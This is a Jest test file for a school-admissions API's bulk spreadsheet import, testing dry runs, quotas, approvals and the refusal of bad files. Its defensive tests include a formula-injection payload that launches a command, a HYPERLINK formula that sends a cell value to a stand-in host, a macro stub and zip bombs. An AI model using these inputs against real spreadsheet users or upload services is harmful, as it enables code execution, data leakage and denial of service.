import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import {
  ApproveAdmissionsDocument,
  ConfirmBulkDocument,
  JobBadLinesDocument,
  JobDocument,
  OfficeRecordDocument,
  PreregisterDocument,
  PublicationResultsDocument,
  PublishResultsDocument,
  RecordListDocument,
  RecordResultDocument,
  StartBulkDocument,
  TryFileDocument,
  type FileKind,
} from '@enrolment/schema/client';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { Readable } from 'node:stream';
import writeSheet from 'write-excel-file/node';
import { startApi, type Person, type TestApi } from '../support/api.js';
import { approved, reviewable, reviewables, staff } from '../support/reviewable.js';
import { SentStatements } from '../support/statements.js';

let api: TestApi;
let mother: Person;
let officer: Person;
let colleague: Person;
let registrar: Person;
beforeAll(async () => {
  // The tests are the queue: they say how far it gets.
  api = await startApi({ worker: false });
});
afterAll(() => api.stop());
beforeEach(async () => {
  mother = await api.person('mother');
  officer = await staff(api, 'DISTRICT_OFFICER', { district: '01' });
  colleague = await api.person('li', {
    roles: [{ role: 'DISTRICT_OFFICER', district: '01' }],
    name: '李测华',
  });
  registrar = await staff(api, 'SCHOOL_REGISTRAR', { district: '01', school: '0101' });
});

type Rows = readonly (readonly (string | number | Date | null)[])[];
const TITLES = ['信息采集编号', '录取结果', '学校代码', '说明'];
const csv = (rows: Rows): Buffer => Buffer.from(rows.map((row) => row.join(',')).join('\r\n'));
const xlsx = async (rows: readonly (readonly object[])[]): Promise<Buffer> =>
  writeSheet([{ sheet: '导入', data: rows as never }]).toBuffer();
const texts = (rows: Rows) =>
  rows.map((row) => row.map((value) => (value === null ? {} : { type: String, value: String(value) })));

const tryIt = async (
  bytes: Buffer,
  { kind = 'APPROVE_ADMISSIONS', district = '01' }: { kind?: FileKind; district?: string } = {},
  person = officer,
) => person.request(TryFileDocument, { kind, district, content: bytes.toString('base64') });
const rulesOf = async (bytes: Buffer, kind?: FileKind) => {
  const { data } = await tryIt(bytes, kind ? { kind } : {});
  return data.tryFile.__typename === 'Refused' ? data.tryFile.refusals.map(({ rule }) => rule) : [];
};
async function finish(id: string) {
  for (;;) {
    const [row] = await api.sql<{ over: boolean }>(
      'select finished_at is not null as over from job where id = $1',
      [id],
    );
    if (row!.over) return;
    await api.services.jobs.run(api.orm.em.fork(), id, () => api.clock.now(), 1);
  }
}
const see = async (id: string, person = officer) =>
  (await person.request(JobDocument, { id, first: 100 })).data.job!;
const badLines = async (id: string) => {
  const { data } = await officer.request(JobBadLinesDocument, { id });
  return data.job!.file!.badLines.nodes.map(({ line, refusals }) => [
    line,
    ...refusals.map(({ field, rule }) => `${field} ${rule}`),
  ]);
};
/** A dry run of a file, to its end. */
async function tried(bytes: Buffer, kind?: FileKind) {
  const { data, errors } = await tryIt(bytes, kind ? { kind } : {});
  if (data?.tryFile.__typename !== 'Job') throw new Error(JSON.stringify(errors ?? data));
  await finish(data.tryFile.id);
  return see(data.tryFile.id);
}
const start = async (dryRun: string, onlyGood?: boolean) =>
  (await officer.request(StartBulkDocument, { dryRun, ...(onlyGood === undefined ? {} : { onlyGood }) })).data
    .startBulk;
async function carriedOut(dryRun: string, onlyGood?: boolean) {
  const job = await start(dryRun, onlyGood);
  if (job.__typename !== 'Job') throw new Error(JSON.stringify(job));
  await finish(job.id);
  return see(job.id);
}
async function preregistered(count: number): Promise<string[]> {
  const numbers: string[] = [];
  for (let n = 0; n < count; n += 1) numbers.push((await approved(api, mother)).number);
  const { data } = await registrar.request(PreregisterDocument, { numbers, school: '0101' });
  expect(data.preregister.refused).toEqual([]);
  return numbers;
}
const recordOf = async (number: string) =>
  (await officer.request(OfficeRecordDocument, { number })).data.collectionRecord!;
const schoolOf = async (number: string) =>
  (
    await api.sql<{ school: string; outcome: string }>(
      'select coalesce(a.assigned_school_code, a.school_code) as school, a.outcome from admission a join collection_record r on r.id = a.record_id where r.number = $1',
      [number],
    )
  )[0];

describe('a file of admissions', () => {
  test('says which schools would have more than their plan, which holds nothing up', async () => {
    const numbers = await preregistered(3);
    const [{ taken }] = (await api.sql<{ taken: number }>(
      `select count(*)::int as taken from admission where coalesce(assigned_school_code, school_code) = '0102' and outcome <> 'NOT_ADMITTED'`,
    )) as [{ taken: number }];
    await api.sql(
      `insert into school_plan (season, school_code, quota) select year, '0102', $1 from season on conflict (season, school_code) do update set quota = excluded.quota`,
      [taken + 1],
    );
    const [first, second, third] = numbers as [string, string, string];
    const file = csv([
      TITLES,
      [first, '录取', '0102', ''],
      [second, '录取', '0102', ''],
      [third, '未录取', '', '学位已满'],
    ]);
    const trial = await tried(file);
    const of = (job: typeof trial, code: string) => job.schools.find(({ school }) => school.code === code);
    expect(trial).toMatchObject({ done: 3, refused: 0 });
    expect(of(trial, '0102')).toMatchObject({
      quota: taken + 1,
      taken,
      wouldBe: taken + 2,
      overPlan: true,
    });
    const here = of(trial, '0101')!;
    expect(here).toMatchObject({ quota: null, wouldBe: here.taken - 3, overPlan: false });
    const done = await carriedOut(trial.id);
    expect(done).toMatchObject({ state: 'DONE', done: 3, refused: 0, schools: [] });
    // By what stands now nothing of it would change any more.
    expect((await see(trial.id)).schools).toEqual([]);
    const again = await tried(csv([TITLES, [third, '录取', '0102', '']]));
    expect(of(again, '0102')).toMatchObject({ taken: taken + 2, wouldBe: taken + 3, overPlan: true });
  });

  test('reckons the plans of two records and of twenty in as many statements', async () => {
    const numbers = await preregistered(20);
    const lines = (some: readonly string[]) => csv([TITLES, ...some.map((one) => [one, '录取', '0102', ''])]);
    const few = await tried(lines(numbers.slice(0, 2)));
    const many = await tried(lines(numbers));
    const statements = new SentStatements();
    try {
      const counts: number[] = [];
      for (const { id } of [few, many])
        counts.push(
          (await statements.of(async () => expect((await see(id)).schools).toHaveLength(2))).length,
        );
      expect(counts[0]).toBe(counts[1]);
    } finally {
      statements.stop();
    }
  });

  test('is tried, then done as it said, with the schools that it assigns', async () => {
    const [here, there, not] = (await preregistered(3)) as [string, string, string];
    const file = await xlsx(
      texts([
        ['信息采集编号 / Collection number', '录取结果', '学校代码', '说明'],
        [here, '录取', null, null],
        [there, 'ADMITTED', '0102', '请于 8 月来校'],
        [not, '未录取', null, '学位已满'],
      ]),
    );
    const trial = await tried(file);
    expect(trial).toMatchObject({ dryRun: true, state: 'DONE', done: 3, refused: 0, district: '01' });
    expect(trial.file).toMatchObject({
      badLineCount: 0,
      fingerprint: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(trial.rows.nodes.map(({ position, number, order }) => [position, number, order])).toEqual([
      [2, here, expect.objectContaining({ outcome: 'ADMITTED', school: null, reason: null })],
      [
        3,
        there,
        expect.objectContaining({
          school: expect.objectContaining({ code: '0102' }),
          reason: '请于 8 月来校',
        }),
      ],
      [4, not, expect.objectContaining({ outcome: 'NOT_ADMITTED', reason: '学位已满' })],
    ]);
    expect(await schoolOf(there)).toEqual({ school: '0101', outcome: 'PENDING' });

    const job = await carriedOut(trial.id);
    expect(job).toMatchObject({ state: 'DONE', done: 3, refused: 0, order: null });
    expect(job.file!.fingerprint).toBe(trial.file!.fingerprint);
    expect(job.rows.nodes.map(({ position, order }) => [position, order])).toEqual([
      [2, null],
      [3, null],
      [4, null],
    ]);
    expect(await schoolOf(here)).toEqual({ school: '0101', outcome: 'ADMITTED' });
    expect(await schoolOf(there)).toEqual({ school: '0102', outcome: 'ADMITTED' });
    expect(await schoolOf(not)).toEqual({ school: '0101', outcome: 'NOT_ADMITTED' });
    const [entry] = await api.sql<{ facts: object }>(
      `select facts from audit_entry where action = 'ADMISSION_ADMITTED' and record_number = $1`,
      [there],
    );
    expect(entry!.facts).toMatchObject({ job: job.id, school: '0102' });
  });

  test('keeps what it says sealed, and nothing of it once it is over', async () => {
    const [number] = await preregistered(1);
    const trial = await tried(csv([TITLES, [number!, '未录取', '', '学位已满请见谅']]));
    const kept = async (id: string) =>
      api.sql<{ key: Buffer | null; order: Buffer | null }>(
        'select j.wrapped_key as key, r.order_sealed as "order" from job j join job_row r on r.job_id = j.id where j.id = $1',
        [id],
      );
    const [row] = await kept(trial.id);
    expect(row!.order).not.toBeNull();
    expect(row!.order!.toString()).not.toContain('学位');
    const job = await carriedOut(trial.id);
    expect(await kept(job.id)).toMatchObject([{ key: null }]);
  });

  test('is done whole or not at all, unless only the good lines are meant', async () => {
    const [good, undecidable] = [(await preregistered(1))[0]!, (await reviewable(api, mother)).number];
    const trial = await tried(
      csv([
        TITLES,
        [good, '录取'],
        [undecidable, '录取'],
        ['123', '录取'],
        [good, '录取'],
        [null, ''],
        ['', '好'],
      ]),
    );
    expect(trial).toMatchObject({ done: 1, refused: 1, file: { badLineCount: 3 } });
    expect(await badLines(trial.id)).toEqual([
      [4, 'number rowNumber'],
      [5, 'number rowTwice'],
      [7, 'number required', 'outcome rowWord'],
    ]);
    expect(await start(trial.id)).toMatchObject({
      refusals: [{ rule: 'fileNotWhole', message: expect.stringContaining('4') }],
    });
    expect(await schoolOf(good)).toMatchObject({ outcome: 'PENDING' });
    expect(await carriedOut(trial.id, true)).toMatchObject({
      done: 1,
      refused: 0,
      file: { badLineCount: 0 },
    });
    expect(await schoolOf(good)).toMatchObject({ outcome: 'ADMITTED' });
  });

  test('of bad lines alone starts nothing', async () => {
    const trial = await tried(csv([TITLES, ['123', '录取']]));
    expect(trial).toMatchObject({ state: 'DONE', total: 0, file: { badLineCount: 1 } });
    expect(await start(trial.id, true)).toMatchObject({ refusals: [{ rule: 'bulkNone' }] });
  });

  test('with a decision that no record could bear has a bad line there', async () => {
    const numbers = await preregistered(2);
    const trial = await tried(
      csv([TITLES, [numbers[0]!, '未录取'], [numbers[1]!, '未录取', '0102', '学位已满']]),
    );
    expect(await badLines(trial.id)).toEqual([
      [2, 'note required'],
      [3, 'school schoolWithoutAdmission'],
    ]);
  });
});

describe('a school that is assigned', () => {
  const approve = async (number: string, more: object) =>
    (await officer.request(ApproveAdmissionsDocument, { numbers: [number], outcome: 'ADMITTED', ...more }))
      .data.approveAdmissions;

  test('is one of the record’s district', async () => {
    const [number] = (await preregistered(1)) as [string];
    for (const school of ['0201', '9999'])
      expect((await approve(number, { school })).refused[0]!.refusal.rule).toBe('schoolOfOtherDistrict');
    expect(await schoolOf(number)).toEqual({ school: '0101', outcome: 'PENDING' });
  });

  test('goes with the decision: taken back, the child is at the school that preregistered her', async () => {
    const [number] = (await preregistered(1)) as [string];
    expect(await approve(number, { school: '0102' })).toMatchObject({ done: [number] });
    // Another decision without a school leaves it where it is.
    expect(await approve(number, {})).toMatchObject({ done: [number] });
    expect(await schoolOf(number)).toEqual({ school: '0102', outcome: 'ADMITTED' });
    expect(await approve(number, { outcome: 'PENDING' })).toMatchObject({ done: [number] });
    expect(await schoolOf(number)).toEqual({ school: '0101', outcome: 'PENDING' });
    expect((await recordOf(number)).stage).toBe('PREREGISTERED');
  });

  test('is known to the district alone until the result is published, and has the child from then on', async () => {
    const [number] = (await preregistered(1)) as [string];
    const place = { district: '01', service: 'NON_LOCAL_HUKOU' } as const;
    const administrator = await staff(api, 'DISTRICT_ADMIN', { district: '01' });
    const elsewhere = await staff(api, 'SCHOOL_REGISTRAR', { district: '01', school: '0102' });
    const city = await staff(api, 'MUNICIPAL_ADMIN');
    const reads = async (person: Person) =>
      (await person.request(OfficeRecordDocument, { number })).data?.collectionRecord != null;
    const lists = async (person: Person, school: string) => {
      const { data } = await person.request(RecordListDocument, { filter: { search: number, school } });
      return data.collectionRecords.edges.length === 1;
    };
    const seen = async () => ({
      preregistering: await reads(registrar),
      assigned: await reads(elsewhere),
      cityHere: await lists(city, '0101'),
      cityThere: await lists(city, '0102'),
    });
    const before = { preregistering: true, assigned: false, cityHere: true, cityThere: false };
    expect(await seen()).toEqual(before);
    await approve(number, { school: '0102' });
    expect(await seen()).toEqual(before);
    const { admissionResult } = (await officer.request(OfficeRecordDocument, { number })).data
      .collectionRecord!;
    expect(admissionResult!.school).toMatchObject({ name: '东城区第二示例小学' });
    const preview = { ...place, school: '0102', first: 50 };
    const shown = (await administrator.request(PublicationResultsDocument, preview)).data.publicationPreview;
    expect(shown.results.nodes).toContainEqual(
      expect.objectContaining({ number, school: expect.objectContaining({ code: '0102' }) as unknown }),
    );

    await administrator.request(PublishResultsDocument, place);
    expect(await seen()).toEqual({
      preregistering: false,
      assigned: true,
      cityHere: false,
      cityThere: true,
    });
    const told = (await mother.request(RecordResultDocument, { number })).data.collectionRecord!;
    expect(told.admissionResult!.school).toMatchObject({ name: '东城区第二示例小学' });
  });
});

describe('a file of other decisions', () => {
  test('decides items, each line its own', async () => {
    const [a, b] = (await reviewables(api, mother, 2)) as [string, string];
    const trial = await tried(
      csv([
        ['信息采集编号', '审核项', '决定', '原因', '怎么办', '补正期限'],
        [a, '在京实际住所居住材料', '通过'],
        [b, '全家户口簿', '退回补充更正', '"缺首页,请补"', '请补首页', '2099年1月2日'],
      ]),
      'DECIDE_REVIEW_ITEM',
    );
    expect(trial.rows.nodes.map(({ stage, order }) => [stage, order!.dueAt])).toEqual([
      [null, null],
      ['RETURNED', '2099-01-02T16:00:00.000Z'],
    ]);
    await carriedOut(trial.id);
    expect((await recordOf(b)).stage).toBe('RETURNED');
    const passed = (await recordOf(a)).reviewItems.find(({ kind }) => kind === 'RESIDENCE');
    expect(passed!.status).toBe('PASSED');
  });

  test('rejects with a second person, who reads each reason', async () => {
    const [a, b] = (await reviewables(api, mother, 2)) as [string, string];
    const file = csv([
      ['信息采集编号', '原因'],
      [a, '材料不符'],
      [b, '不在本区居住'],
    ]);
    const trial = await tried(file, 'REJECT_RECORDS');
    const job = await start(trial.id);
    if (job.__typename !== 'Job') throw new Error(JSON.stringify(job));
    expect(job.state).toBe('PROPOSED');
    const seen = await see(job.id, colleague);
    expect(seen.rows.nodes.map(({ order }) => order!.reason)).toEqual(['材料不符', '不在本区居住']);
    expect(seen.file!.fingerprint).toBe(trial.file!.fingerprint);
    await colleague.request(ConfirmBulkDocument, { job: job.id, checkCode: seen.checkCode! });
    await finish(job.id);
    for (const number of [a, b]) expect((await recordOf(number)).stage).toBe('REJECTED');
    // Another reason is another code: nobody confirms what somebody else has read.
    const other = await tried(
      csv([
        ['信息采集编号', '原因'],
        [a, '材料不符'],
        [b, '另有原因'],
      ]),
      'REJECT_RECORDS',
    );
    expect(other.refused).toBe(2);
  });
});

describe('who may', () => {
  test('a file is for officers of the district', async () => {
    const file = csv([TITLES, ['123', '录取']]);
    const city = await staff(api, 'MUNICIPAL_ADMIN');
    const foreign = await staff(api, 'DISTRICT_OFFICER', { district: '02' });
    for (const person of [mother, registrar, city, foreign])
      expect((await tryIt(file, {}, person)).errors?.[0]?.extensions.code).toBe('FORBIDDEN');
  });

  test.each([
    ['mother', () => mother],
    ['a registrar', () => registrar],
  ])('a large one of %s is not read', async (_, person) => {
    const asked = { times: 0 };
    const body = new Readable({
      read() {
        asked.times += 1;
        this.push(' '.repeat(1_024));
      },
    });
    const { statusCode } = await api.app.inject({
      method: 'POST',
      url: '/graphql',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${person().token}`,
        'content-length': String(6 * 1024 * 1024),
      },
      payload: body,
    });
    expect([statusCode, asked.times]).toEqual([413, 0]);
  });

  test('100 MB are not read from anybody', async () => {
    const { statusCode } = await api.app.inject({
      method: 'POST',
      url: '/graphql',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${officer.token}`,
        'content-length': String(100_000_000),
      },
      payload: Readable.from([' ']),
    });
    expect(statusCode).toBe(413);
  });

  test('what is no base64 is malformed', async () => {
    const given = { kind: 'APPROVE_ADMISSIONS', district: '01', content: '信息采集编号' } as const;
    const { errors } = await officer.request(TryFileDocument, given);
    expect(errors?.[0]?.extensions.code).toBe('BAD_USER_INPUT');
  });
});

describe('bad files', () => {
  const GBK = Buffer.from('d0c5cfa2b2c9bcafb1e0bac52cc2bcc8a1bde1b9fb0a', 'hex');
  const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

  test('GBK, UTF-8 with its mark, UTF-16 with tabs and plain UTF-8 say the same', async () => {
    const [number] = (await preregistered(1)) as [string];
    const files = [
      Buffer.concat([GBK, Buffer.from(`${number},`), Buffer.from('c2bcc8a1', 'hex')]),
      csv([
        ['\ufeff信息采集编号', '录取结果'],
        [number, '录取'],
      ]),
      utf16(`信息采集编号\t录取结果\r\n${number}\t录取\r\n`),
      csv([
        ['Collection number', 'Admission'],
        [number, 'Admitted'],
      ]),
    ];
    for (const file of files) {
      const { rows, file: read } = await tried(file);
      expect(read!.badLineCount).toBe(0);
      expect(rows.nodes).toMatchObject([{ number, position: 2, order: { outcome: 'ADMITTED' } }]);
    }
  });

  test.each([
    ['bytes that are no text', () => Buffer.from('b2c9ff80ff0a', 'hex'), 'fileEncoding'],
    ['an old XLS', () => Buffer.from('d0cf11e0a1b11ae10000000000000000', 'hex'), 'file'],
    ['a PNG', () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'file'],
    ['a cut-off workbook', async () => (await xlsx(texts([TITLES]))).subarray(0, 900), 'fileUnreadable'],
    [
      'an archive that is no workbook',
      () => Buffer.from(zipSync({ 'a.txt': strToU8('a') })),
      'fileUnreadable',
    ],
    ['quotes that never end', () => Buffer.from('信息采集编号,录取结果\n"123,录取'), 'fileUnreadable'],
    ['nothing', () => Buffer.alloc(0), 'fileColumns'],
    [
      'the titles of another kind',
      () =>
        csv([
          ['信息采集编号', '原因'],
          ['1', '2'],
        ]),
      'fileColumns',
    ],
    ['titles alone', () => csv([TITLES]), 'fileEmpty'],
  ])('%s', async (_, make, rule) => {
    expect((await rulesOf(await make()))[0]).toMatch(new RegExp(`^${rule}`));
  });

  test('formulas are not computed, nor is the result kept with them taken', async () => {
    const [number] = (await preregistered(1)) as [string];
    const plain = await xlsx(texts([TITLES, [number, '录取', null, '好']]));
    const parts = unzipSync(plain);
    const name = 'xl/worksheets/sheet1.xml';
    const sheet = Buffer.from(parts[name]!).toString();
    const changed = sheet.replace(
      /<c r="D2"[^>]*>.*?<\/c>/,
      '<c r="D2" t="str"><f>HYPERLINK("http://example.test/"&amp;A2)</f><v>好</v></c>',
    );
    expect(changed).not.toBe(sheet);
    const trial = await tried(Buffer.from(zipSync({ ...parts, [name]: strToU8(changed) })));
    expect(await badLines(trial.id)).toEqual([[2, 'note rowFormula']]);
    const text = await tried(csv([TITLES, [number, '录取', '', `=cmd|' /C calc'!A0`]]));
    expect(await badLines(text.id)).toEqual([[2, 'note rowFormula']]);
  });

  test('macros are refused', async () => {
    const parts = unzipSync(await xlsx(texts([TITLES, ['1', '录取']])));
    const file = Buffer.from(zipSync({ ...parts, 'xl/vbaProject.bin': strToU8('x') }));
    expect(await rulesOf(file)).toEqual(['fileMacros']);
  });

  test('merged cells are refused with their place', async () => {
    const merged = [
      ...texts([TITLES]),
      [
        { type: String, value: '1', rowSpan: 2 },
        { type: String, value: '录取' },
      ],
      [null, { type: String, value: '录取' }],
    ] as object[][];
    const { data } = await tryIt(await xlsx(merged));
    expect(data.tryFile).toMatchObject({
      refusals: [{ rule: 'fileMerged', message: expect.stringContaining('A2:A3') }],
    });
  });

  test('numbers and dates as a spreadsheet keeps them are read as they are shown', async () => {
    const { number } = await reviewable(api, mother);
    const file = await xlsx([
      ...texts([['信息采集编号', '审核项', '决定', '原因', '补正期限']]),
      [
        { type: Number, value: Number(number) },
        { type: String, value: '全家户口簿' },
        { type: String, value: '退回补充更正' },
        { type: String, value: '缺页' },
        { type: Date, value: new Date('2099-01-02T00:00:00Z'), format: 'yyyy/m/d' },
      ],
    ]);
    const trial = await tried(file, 'DECIDE_REVIEW_ITEM');
    expect(trial.rows.nodes).toMatchObject([{ number, order: { dueAt: '2099-01-02T16:00:00.000Z' } }]);
    const bare = await xlsx([
      ...texts([['信息采集编号', '审核项', '决定', '原因', '补正期限']]),
      [...texts([[number, '全家户口簿', '退回补充更正', '缺页']])[0]!, { type: Number, value: 46_000 }],
    ]);
    expect(await badLines((await tried(bare, 'DECIDE_REVIEW_ITEM')).id)).toEqual([[2, 'dueAt rowDay']]);
  });

  test('empty lines between are nothing, and lines are counted as the spreadsheet does', async () => {
    const rows = texts([TITLES, [null, null], ['123', '录取'], [null], [null], ['456', '录取']]);
    const trial = await tried(await xlsx(rows));
    expect((await badLines(trial.id)).map(([line]) => line)).toEqual([3, 6]);
  });

  /** A sheet with this XML as its rows. */
  const withRows = async (rows: string) => {
    const parts = unzipSync(await xlsx(texts([TITLES, ['1', '录取']])));
    const name = 'xl/worksheets/sheet1.xml';
    const sheet = Buffer.from(parts[name]!).toString().replace('</sheetData>', `${rows}</sheetData>`);
    return Buffer.from(zipSync({ ...parts, [name]: strToU8(sheet) }));
  };

  test('1,048,576 empty rows are too many, and soon known to be', async () => {
    const rows = Array.from({ length: 1_048_573 }, (_, index) => `<row r="${index + 3}"/>`).join('');
    expect(await rulesOf(await withRows(rows))).toEqual(['fileTooManyRows']);
  });

  test('a cell far away makes no room for what lies between', async () => {
    expect(await rulesOf(await withRows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))).toEqual([
      'fileTooManyRows',
    ]);
  });

  test('what unpacks to a hundred times as much is refused before it does', async () => {
    const parts = unzipSync(await xlsx(texts([TITLES, ['1', '录取']])));
    const bomb = zipSync({ ...parts, 'xl/worksheets/sheet2.xml': new Uint8Array(64 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(640 * 1024);
    expect(await rulesOf(Buffer.from(bomb))).toEqual(['fileTooLarge']);
  });

  test('one long text that is said in every line is too much', async () => {
    const long = 'x'.repeat(30_000);
    const file = await xlsx(texts([TITLES, ...Array.from({ length: 600 }, () => ['1', '录取', '', long])]));
    expect(file.length).toBeLessThan(1024 * 1024);
    expect(await rulesOf(file)).toEqual(['fileTooLarge']);
  });

  test('lines that come after a hundred thousand empty ones are not left out', async () => {
    const text = `${TITLES.join(',')}\r\n${'\r\n'.repeat(100_010)}1,录取`;
    expect(await rulesOf(Buffer.from(text))).toEqual(['fileTooManyRows']);
  });

  test('what is no base64 is told, however it looks', async () => {
    for (const content of [`${'='.repeat(200_000)}A`, 'a===', '信息采集编号']) {
      const asked = { kind: 'APPROVE_ADMISSIONS', district: '01', content } as const;
      const { errors } = await officer.request(TryFileDocument, asked);
      expect(errors![0]!.extensions.code).toBe('BAD_USER_INPUT');
    }
  });

  test('one that says that it is small is cut off where it says that it ends', async () => {
    const bomb = Buffer.from(zipSync({ 'xl/workbook.xml': new Uint8Array(20 * 1024 * 1024) }));
    // The size in the local header and in the directory.
    for (const [signature, at] of [
      ['PK\u0003\u0004', 22],
      ['PK\u0001\u0002', 24],
    ] as const)
      bomb.writeUInt32LE(1_000, bomb.indexOf(signature, 0, 'latin1') + at);
    expect(await rulesOf(bomb)).toEqual(['fileUnreadable']);
  });
});
